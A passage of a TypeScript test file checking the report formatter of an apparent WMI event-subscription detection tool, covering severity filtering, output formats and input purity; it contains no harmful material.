  assert.deepEqual(json.evidence, r.evidence, 'evidence and notes are kept');
  // what --min-severity hid, counted by severity and by rule
  assert.deepEqual(json.hidden, { narrowedBy: { minSeverity: 'high' }, total: 2, bySeverity: { critical: 0, high: 0, medium: 1, low: 0, info: 1 }, otherHosts: 0, outsideWindow: 0, belowMinSeverity: 2, undated: [] });
  const jsonl = formatReport(r, 'jsonl', { minSeverity: 'high' }).trimEnd().split('\n');
  assert.deepEqual(
    jsonl.map((l) => (JSON.parse(l) as Finding).id),
    [legit.id, bot.id],
  );
  assert.deepEqual(
    csvRecords(formatReport(r, 'csv', { minSeverity: 'high' })).map((x) => x.id),
    [legit.id, bot.id],
  );
  const tl = formatReport(r, 'timeline', { minSeverity: 'high' })
    .trimEnd()
    .split('\n')
    .map((l) => JSON.parse(l) as TimelineEvent);
  assert.ok(tl.length === 8 && tl.every((e) => keep.has(e.finding_id)));
  assert.equal(formatReport(r, 'timeline', { minSeverity: 'critical' }).trimEnd().split('\n').length, 2);
  const table = formatReport(r, 'table', { minSeverity: 'high', details: true });
  assert.ok(table.includes(' CRITICAL ') && table.includes(' HIGH ') && !table.includes(' MEDIUM ') && !table.includes(' INFO '));
  assert.ok(table.includes('Hidden    2 (1 medium, 1 info): 2 below high'), table);
  assert.ok(!table.includes('\\x1b'), 'the hostile (medium) finding is filtered out');
  assert.equal(formatReport(r, 'json', { minSeverity: 'info' }), formatReport(r, 'json'));
  for (const format of ALL) assert.equal(typeof formatReport({ ...r, findings: [] }, format), 'string');
  assert.ok(formatReport({ ...r, findings: [] }, 'table').includes('No WMI event subscription found'));
  assert.equal(csvRecords(formatReport({ ...r, findings: [] }, 'csv')).length, 0);
});

test('formatReport: pure (input untouched) and rejects an unknown format', () => {
  const r = fixture();
  const before = JSON.stringify(r);
  for (const format of ALL) formatReport(r, format, { color: true, width: 70, minSeverity: 'medium' });
  assert.equal(JSON.stringify(r), before);
  assert.throws(() => formatReport(r, 'pdf' as ReportFormat), /unknown report format/);
});
